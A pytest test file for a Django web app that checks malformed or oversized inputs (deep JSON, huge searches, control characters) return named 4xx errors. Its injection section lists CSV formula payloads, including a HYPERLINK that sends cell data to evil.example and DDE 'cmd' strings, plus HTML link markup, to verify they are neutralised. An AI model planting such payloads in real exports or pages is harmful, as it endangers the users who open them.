"""Inputs that used to give a 5xx (or held a worker for 30 s) now get a 4xx that names the
field and the limit. The API through DRF's APIClient, the pages through Django's test client;
both built with raise_request_exception=False so a crash shows as the 500 a user would see."""

import json
import time

import pytest
from django.test import Client
from rest_framework.test import APIClient

from runs import limits, services

pytestmark = pytest.mark.django_db


def api(member) -> APIClient:
    client = APIClient(raise_request_exception=False)
    client.credentials(HTTP_AUTHORIZATION=f"Token {member.token}")
    return client


def browser(member) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(member.user)
    return client


def error_of(response, status: int = 400) -> dict:
    assert response.status_code == status, (response.status_code, response.content[:500])
    assert response["Content-Type"].startswith("application/json")
    return response.json()["error"]


# --- JSON bodies ------------------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def test_json_nested_100000_deep_is_a_400_naming_the_depth_limit(cast, make_run):
    run = make_run()
    response = api(cast.contributor).generic(
        "PATCH", f"/api/v1/runs/{run.run_id}/tags", DEEP, content_type="application/json"
    )
    error = error_of(response)
    assert str(limits.JSON_MAX_DEPTH) in error["message"] and error["field"] == "body"


def test_the_unauthenticated_token_endpoint_refuses_deep_json_with_a_400(cast):
    response = APIClient(raise_request_exception=False).generic(
        "POST", "/api/v1/auth/token", DEEP, content_type="application/json"
    )
    assert str(limits.JSON_MAX_DEPTH) in error_of(response)["message"]


def test_deep_json_in_a_submission_config_is_a_400_on_config(cast):
    import io
    import zipfile

    from django.core.files.uploadedfile import SimpleUploadedFile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("train.py", "print(1)\n")
    response = api(cast.contributor).post(
        "/api/v1/workspaces/lab/experiments/exp/submit",
        {"config": DEEP, "snapshot": SimpleUploadedFile("s.zip", archive.getvalue())},
        format="multipart",
    )
    error = error_of(response)
    assert error["field"] == "config" and "JSON_MAX_DEPTH" in error["message"]


def test_a_deep_json_chart_in_a_saved_view_is_kept_as_text(cast):
    response = browser(cast.reader).post(
        "/w/lab/views/new/", {"name": "deep", "state": "chart=" + "[" * 5000 + "]" * 5000}
    )
    assert response.status_code == 302


@pytest.mark.parametrize(
    "kind, value",
    [("row", '{"a": ' * 1010 + "1" + "}" * 1010), ("list", "[" * 1010 + "1" + "]" * 1010)],
)
def test_a_list_or_row_value_nested_past_the_stored_limit_is_a_400(cast, make_run, kind, value):
    # Inside the body's JSON_MAX_DEPTH, past SQLite's JSON_VALID (1,000): it was a 500.
    run = make_run()
    body = '{"metrics": [{"name": "m", "kind": "' + kind + '", "values": [' + value + "]}]}"
    response = api(cast.contributor).generic(
        "POST", f"/api/v1/runs/{run.run_id}/metrics/batch", body, content_type="application/json"
    )
    error = error_of(response)
    assert error["field"] == "metrics[0].values[0]" and "STORED_JSON_MAX_DEPTH" in error["message"]


def test_json_with_nan_still_parses_after_the_depth_check(cast, make_run):
    run = make_run()
    body = '{"metrics": [{"name": "loss", "values": [NaN, 1.0]}]}'
    response = api(cast.contributor).generic(
        "POST", f"/api/v1/runs/{run.run_id}/metrics/batch", body, content_type="application/json"
    )
    assert response.status_code == 200, response.content


def test_removing_a_million_tags_in_one_request_is_a_400_naming_the_limit(cast, make_run):
    run = make_run()
    keys = [f"k{i}" for i in range(1_000_000)]
    response = api(cast.contributor).patch(
        f"/api/v1/runs/{run.run_id}/tags", {"remove": keys}, format="json"
    )
    error = error_of(response)
    assert error["field"] == "remove" and str(limits.TAGS_PER_REQUEST) in error["message"]


def test_a_50_mb_tags_body_is_a_json_413_naming_the_limit(cast, make_run):
    run = make_run()
    body = json.dumps({"set": {"k": "v" * (50 * 1024 * 1024)}})
    response = api(cast.contributor).generic(
        "PATCH", f"/api/v1/runs/{run.run_id}/tags", body, content_type="application/json"
    )
    error = error_of(response, 413)
    assert str(limits.REQUEST_BODY_MAX_BYTES) in error["message"]


def test_an_api_url_that_does_not_exist_answers_json(cast):
    response = api(cast.reader).get("/api/v1/no/such/thing")
    assert error_of(response, 404)["code"] == "not_found"


# --- the search language ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "q, limit",
    [
        ("NOT " * 950 + "status = 'Running'", "QUERY_MAX_DEPTH"),
        ("(" * 283 + "a" + " OR b)" * 283, "QUERY_MAX_DEPTH"),
        (" OR ".join(f"w{i}" for i in range(495)), "QUERY_MAX_TERMS"),
        ("created IN (" + ", ".join(["'2024-01-01'"] * 999) + ")", "QUERY_MAX_TERMS"),
    ],
    ids=["not-950", "or-nested-283", "or-495-words", "created-in-999-days"],
)
def test_oversized_searches_are_a_400_on_q_naming_the_limit(cast, make_run, q, limit):
    make_run()
    error = error_of(api(cast.reader).get("/api/v1/workspaces/lab/runs", {"q": q}))
    assert error["field"] == "q" and str(getattr(limits, limit)) in error["message"]


def test_the_largest_allowed_search_runs(cast, make_run):
    make_run(display_name="w3")
    q = " OR ".join(f"w{i}" for i in range(limits.QUERY_MAX_TERMS))
    response = api(cast.reader).get("/api/v1/workspaces/lab/runs", {"q": q})
    assert response.status_code == 200 and len(response.json()["results"]) == 1
    nested = "(" * limits.QUERY_MAX_DEPTH + "w3" + ")" * limits.QUERY_MAX_DEPTH
    response = api(cast.reader).get("/api/v1/workspaces/lab/runs", {"q": nested})
    assert response.status_code == 200 and len(response.json()["results"]) == 1


@pytest.mark.parametrize(
    "q, field_word",
    [
        ("created > '0001-01-01T00:00:00+14:00'", "created"),
        ("created < '9999-12-31'", "created"),
        ("created > 253402300799000", "created"),
        ("duration > 3000000d", "duration"),
        ("duration < '99999999999999s'", "duration"),
    ],
)
def test_times_and_durations_out_of_range_are_a_400_on_q(cast, make_run, q, field_word):
    make_run()
    error = error_of(api(cast.reader).get("/api/v1/workspaces/lab/runs", {"q": q}))
    assert error["field"] == "q" and field_word in error["message"]


def test_created_to_9999_12_31_is_a_400_in_the_api(cast, make_run):
    make_run()
    response = api(cast.reader).get("/api/v1/workspaces/lab/runs", {"created_to": "9999-12-31"})
    error = error_of(response)
    assert error["field"] == "created_to" and str(limits.DATE_MAX) in error["message"]


def test_created_to_9999_12_31_is_a_400_page_in_the_run_list(cast, make_run):
    make_run()
    response = browser(cast.reader).get("/w/lab/runs/", {"created_to": "9999-12-31"})
    assert response.status_code == 400
    assert str(limits.DATE_MAX) in response.content.decode()


def test_created_to_9999_12_31_is_a_400_in_the_csv_export(cast, make_run):
    make_run()
    response = browser(cast.reader).get("/w/lab/runs.csv", {"created_to": "9999-12-31"})
    assert response.status_code == 400
    assert "created_to" in response.content.decode()


def test_a_bad_search_on_the_run_list_page_is_a_400_page_that_says_why(cast, make_run):
    make_run()
    response = browser(cast.reader).get("/w/lab/runs/", {"q": "NOT " * 950 + "x"})
    assert response.status_code == 400
    assert str(limits.QUERY_MAX_DEPTH) in response.content.decode()


# --- charts -----------------------------------------------------------------------------------


@pytest.mark.parametrize("param, value", [("x_min", "1e300"), ("x_max", "1e19")])
def test_chart_ranges_beyond_a_step_are_a_400_naming_the_limit(cast, make_run, param, value):
    run = make_run()
    services.run_log_batch(run=run, metrics=[{"name": "loss", "values": [1.0, 0.5]}])
    response = api(cast.reader).get(
        f"/api/v1/runs/{run.run_id}/metrics/series", {"name": "loss", param: value}
    )
    error = error_of(response)
    assert error["field"] == param and "9e+18" in error["message"]
    response = browser(cast.reader).get(
        "/charts/metric/", {"run": run.run_id, "metric": "loss", param: value}
    )
    assert error_of(response)["field"] == param


# --- image metrics ----------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["", "plots/loss\n.png", "a\x00b"])
def test_an_image_metric_without_a_clean_path_is_refused_at_ingest(cast, make_run, value):
    run = make_run()
    response = api(cast.contributor).post(
        f"/api/v1/runs/{run.run_id}/metrics/batch",
        {"metrics": [{"name": "pic", "kind": "image", "values": [value]}]},
        format="json",
    )
    error = error_of(response)
    assert error["field"] == "metrics[0].values[0]"


def test_the_metrics_tab_still_renders_with_bad_image_rows_already_stored(cast, make_run):
    from runs.models import MetricEntry, MetricKind, MetricSeries

    run = make_run()
    series = MetricSeries.objects.create(run=run, name="pic", kind=MetricKind.IMAGE, count=2)
    MetricEntry.objects.bulk_create(
        [
            MetricEntry(series=series, seq=0, step=0, value="", time=0.0),
            MetricEntry(series=series, seq=1, step=1, value="plots/a\n.png", time=0.0),
        ]
    )
    response = browser(cast.reader).get(f"/w/lab/runs/{run.run_id}/", {"tab": "metrics"})
    assert response.status_code == 200
    assert "pic" in response.content.decode()


# --- names: no control characters, no trailing newline ----------------------------------------


@pytest.mark.parametrize("name", ["exp\n", "exp\r", "e\x1b[31mx", "e\x00x"])
def test_experiment_names_with_control_characters_are_refused(cast, name):
    response = api(cast.contributor).post(
        "/api/v1/workspaces/lab/experiments", {"name": name}, format="json"
    )
    assert error_of(response)["field"] == "name"


def test_workspace_and_compute_target_names_with_a_trailing_newline_are_refused(cast):
    response = api(cast.owner).post("/api/v1/workspaces", {"name": "team\n"}, format="json")
    assert error_of(response)["field"] == "name"
    response = api(cast.owner).post(
        "/api/v1/workspaces/lab/compute", {"name": "gpu\n", "capacity": 1}, format="json"
    )
    assert error_of(response)["field"] == "name"


@pytest.mark.parametrize("value", ["best\n", "a\tb", "\x1b[2Jgone", "x\u0085"])
def test_display_names_with_control_characters_are_refused(cast, make_run, value):
    run = make_run()
    response = api(cast.contributor).patch(
        f"/api/v1/runs/{run.run_id}", {"display_name": value}, format="json"
    )
    assert error_of(response)["field"] == "display_name"
    response = api(cast.contributor).post(
        "/api/v1/workspaces/lab/experiments/exp/runs", {"display_name": value}, format="json"
    )
    assert error_of(response)["field"] == "display_name"


def test_tag_keys_refuse_control_characters_and_values_keep_only_line_breaks(cast, make_run):
    run = make_run()
    client = api(cast.contributor)
    url = f"/api/v1/runs/{run.run_id}/tags"
    assert error_of(client.patch(url, {"set": {"k\n": "v"}}, format="json"))["field"] == "set.k\n"
    error = error_of(client.patch(url, {"set": {"k": "\x1b[31mred"}}, format="json"))
    assert error["field"] == "set.k"
    response = client.patch(url, {"set": {"note": "line one\nline two\tend"}}, format="json")
    assert response.status_code == 200
    assert response.json()["tags"]["note"] == "line one\nline two\tend"


def test_metric_names_with_a_trailing_newline_are_refused(cast, make_run):
    run = make_run()
    response = api(cast.contributor).post(
        f"/api/v1/runs/{run.run_id}/metrics/batch",
        {"metrics": [{"name": "loss\n", "values": [1.0]}]},
        format="json",
    )
    assert error_of(response)["field"] == "metrics[0].name"


def test_view_and_alert_rule_names_with_control_characters_are_refused(cast):
    from runs.errors import InvalidInput
    from runs.services import saved_views

    with pytest.raises(InvalidInput, match="control character"):
        saved_views.view_save(
            workspace=cast.workspace, owner=cast.reader.user, name="bell\x07", params={}
        )
    response = api(cast.owner).post(
        "/api/v1/workspaces/lab/alert-rules",
        {
            "name": "fail\nalert",
            "statuses": ["Failed"],
            "channel": "email",
            "recipients": ["a@example.com"],
        },
        format="json",
    )
    assert error_of(response)["field"] == "name"


# --- bounded work -----------------------------------------------------------------------------


def test_a_like_pattern_on_a_megabyte_description_answers_within_a_second(cast, make_run):
    from runs.models import Run

    run = make_run()
    # Stored before DESCRIPTION_MAX_LENGTH, or by a door that had none: the search must cope.
    Run.objects.filter(pk=run.pk).update(description="a" * 1_000_000)
    started = time.monotonic()
    response = api(cast.reader).get(
        "/api/v1/workspaces/lab/runs", {"q": "description LIKE '%a%a%a%a%a%a%a_b'"}
    )
    elapsed = time.monotonic() - started
    assert response.status_code == 200 and response.json()["results"] == []
    assert elapsed < 1.0, f"the search held the worker for {elapsed:.1f} s"
    response = api(cast.reader).get(
        "/api/v1/workspaces/lab/runs", {"q": "description LIKE '%a%a%a%a%a%a%a_a'"}
    )
    assert [r["run_id"] for r in response.json()["results"]] == [run.run_id]


def test_a_like_pattern_with_too_many_wildcards_is_a_400_naming_the_limit(cast):
    pattern = "%a" * (limits.LIKE_MAX_WILDCARDS + 1)
    response = api(cast.reader).get(
        "/api/v1/workspaces/lab/runs", {"q": f"description LIKE '{pattern}'"}
    )
    error = error_of(response)
    assert error["field"] == "q" and str(limits.LIKE_MAX_WILDCARDS) in error["message"]


@pytest.fixture
def no_time_budget(settings):
    """A budget every real search overruns: the database must stop the query itself."""
    settings.QUERY_TIME_BUDGET_SECONDS = 1e-9


def test_a_search_over_the_time_budget_is_a_400_everywhere(cast, make_run, no_time_budget):
    from runs.models import Run

    for i in range(100):
        make_run(display_name=f"run {i}", tags={"team": "vision"})
    # Work that outlasts PostgreSQL's smallest timeout (1 ms) as well as SQLite's step count.
    Run.objects.filter(display_name="run 0").update(description="a" * 1_000_000)
    q = {"q": "description LIKE '%x%y_z' OR tags.team LIKE 'v_s%'"}
    error = error_of(api(cast.reader).get("/api/v1/workspaces/lab/runs", q))
    assert error["code"] == "query_too_expensive" and error["field"] == "q"
    assert "QUERY_TIME_BUDGET_SECONDS" in error["message"]
    response = api(cast.reader).post("/api/v1/workspaces/lab/runs/search", q, format="json")
    assert error_of(response)["code"] == "query_too_expensive"
    page = browser(cast.reader).get("/w/lab/runs/", q)
    assert page.status_code == 400 and "QUERY_TIME_BUDGET_SECONDS" in page.content.decode()
    export = browser(cast.reader).get("/w/lab/runs.csv", q)
    assert export.status_code == 400 and "QUERY_TIME_BUDGET_SECONDS" in export.content.decode()


def test_within_the_budget_the_same_searches_answer(cast, make_run):
    make_run(display_name="kept", tags={"team": "vision"})
    q = {"q": "tags.team LIKE 'v_s%'"}
    assert len(api(cast.reader).get("/api/v1/workspaces/lab/runs", q).json()["results"]) == 1
    assert browser(cast.reader).get("/w/lab/runs/", q).status_code == 200
    assert browser(cast.reader).get("/w/lab/runs.csv", q).status_code == 200


# --- POST search ------------------------------------------------------------------------------


def test_post_search_answers_the_same_pages_as_the_get_list(cast, make_run):
    runs = [make_run(display_name=f"r{i}", tags={"team": "a" if i % 2 else "b"}) for i in range(5)]
    client = api(cast.reader)
    get = client.get(
        "/api/v1/workspaces/lab/runs", {"tag": "team=a", "status": ["Running"], "limit": 1}
    ).json()
    post = client.post(
        "/api/v1/workspaces/lab/runs/search",
        {"tag": ["team=a"], "status": "Running", "limit": 1},
        format="json",
    ).json()
    assert post == get and get["next_cursor"]
    second = client.post(
        "/api/v1/workspaces/lab/runs/search",
        {"tag": ["team=a"], "limit": 1, "cursor": get["next_cursor"]},
        format="json",
    ).json()
    assert [r["run_id"] for r in get["results"] + second["results"]] == [
        runs[3].run_id,
        runs[1].run_id,
    ]


def test_post_search_takes_a_query_longer_than_a_request_line(cast, make_run):
    make_run(display_name="needle")
    q = " OR ".join(
        ["display_name = 'needle'"] + [f"display_name = 'x{i:040d}'" for i in range(90)]
    )
    assert len(q) > 4094
    response = api(cast.reader).post("/api/v1/workspaces/lab/runs/search", {"q": q}, format="json")
    assert [r["display_name"] for r in response.json()["results"]] == ["needle"]


def test_post_search_names_an_unknown_parameter(cast):
    response = api(cast.reader).post(
        "/api/v1/workspaces/lab/runs/search", {"query": "x"}, format="json"
    )
    assert error_of(response)["field"] == "query"


def test_post_search_is_for_members_only(cast):
    response = api(cast.outsider).post("/api/v1/workspaces/lab/runs/search", {}, format="json")
    assert response.status_code == 404


# --- injection --------------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_csv_export_neutralises_formula_cells_and_leads_with_the_run_id(cast, make_run, text):
    run = make_run(display_name=text, tags={"note": text})
    services.run_log_batch(run=run, metrics=[{"name": "delta", "values": [-0.5]}])
    rows = csv_rows(
        browser(cast.reader).get(
            "/w/lab/runs.csv", {"col": ["display_name", "tags.note", "metrics.delta.last"]}
        )
    )
    assert rows[0] == ["run_id", "display_name", "tags.note", "metrics.delta.last"]
    assert rows[1] == [run.run_id, "'" + text, "'" + text, "-0.5"]


def test_the_csv_export_leaves_plain_numbers_in_text_cells_alone(cast, make_run):
    run = make_run(display_name="-3", tags={"lr": "-1e-3", "f": "=1"})
    rows = csv_rows(
        browser(cast.reader).get("/w/lab/runs.csv", {"col": ["display_name", "tags.lr", "tags.f"]})
    )
    assert rows[1] == [run.run_id, "-3", "-1e-3", "'=1"]


HTML_NAME = '<a href="https://evil.example/">click</a> & <b>bold</b>'
AS_TEXT = '&lt;a href="https://evil.example/"&gt;click&lt;/a&gt; &amp; &lt;b&gt;bold&lt;/b&gt;'


def strings_in(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() if k != "meta" for s in strings_in(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings_in(v)]
    return []


def test_metric_chart_titles_and_legends_show_user_names_as_text(cast, make_run):
    runs = [make_run(display_name=HTML_NAME), make_run(display_name="plain")]
    for run in runs:
        services.run_log_batch(run=run, metrics=[{"name": "<i>m</i>", "values": [1.0, 2.0]}])
    response = browser(cast.reader).get(
        "/charts/metric/",
        {"run": [r.run_id for r in runs], "metric": "<i>m</i>", "title": "<b>t</b>"},
    )
    figure = response.json()["figure"]
    drawn = strings_in(figure)
    assert not any("<a " in s or "<b>" in s or "<i>" in s for s in drawn), drawn
    assert figure["data"][0]["name"] == AS_TEXT
    assert figure["layout"]["title"]["text"] == "&lt;b&gt;t&lt;/b&gt;"


def test_child_and_compare_charts_show_user_names_as_text(cast, make_run):
    import json as json_module

    parent = make_run()
    child = make_run(parent=parent, display_name=HTML_NAME)
    services.run_log_batch(run=child, metrics=[{"name": "loss", "values": [1.0]}])
    client = browser(cast.reader)
    figure = client.get("/charts/children/", {"run": parent.run_id, "metric": "loss"}).json()
    assert figure["figure"]["data"][0]["x"] == [AS_TEXT]
    page = client.get("/w/lab/compare/", {"run": child.run_id, "metric": "loss"})
    scripts = [
        json_module.loads(block.split(">", 1)[1].split("</script>")[0])
        for block in page.content.decode().split("<script")[1:]
        if 'type="application/json"' in block.split(">", 1)[0]
    ]
    figures = [s for s in scripts if isinstance(s, dict) and "data" in s]
    assert figures, "the compare page ships its figures as json_script"
    for figure in figures:
        assert not any("<a " in s or "<b>" in s for s in strings_in(figure))


def test_metric_values_over_the_answer_limit_is_a_400_naming_it(cast, make_run, monkeypatch):
    run = make_run()
    services.run_log_batch(
        run=run,
        metrics=[{"name": "loss", "values": [1.0, 2.0, 3.0]}, {"name": "acc", "values": [0.5]}],
    )
    # A small limit stands in for a million points; the check reads only the summaries.
    monkeypatch.setattr(limits, "METRIC_VALUES_MAX", 3)
    client = api(cast.reader)
    error = error_of(client.get(f"/api/v1/runs/{run.run_id}/metrics/values"))
    assert "METRIC_VALUES_MAX" in error["message"] and "metrics/history" in error["message"]
    response = client.get(f"/api/v1/runs/{run.run_id}/metrics/values", {"name": "loss"})
    assert response.json()["metrics"] == {"loss": [1.0, 2.0, 3.0]}


def test_unpaged_lists_answer_at_most_list_max_items(cast, make_run, monkeypatch):
    from runs.models import Experiment

    parent = make_run()
    for i in range(4):
        make_run(experiment=f"e{i}", parent=parent)
    services.run_log_batch(
        run=parent, metrics=[{"name": f"m{i}", "values": [float(i)]} for i in range(4)]
    )
    monkeypatch.setattr(limits, "LIST_MAX", 2)
    client = api(cast.reader)
    assert Experiment.objects.count() == 5
    assert len(client.get("/api/v1/workspaces/lab/experiments").json()["results"]) == 2
    assert len(client.get(f"/api/v1/runs/{parent.run_id}/children").json()["results"]) == 2
    assert len(client.get(f"/api/v1/runs/{parent.run_id}/metrics").json()["metrics"]) == 2
    assert len(client.get("/api/v1/workspaces/lab/members").json()["results"]) == 2
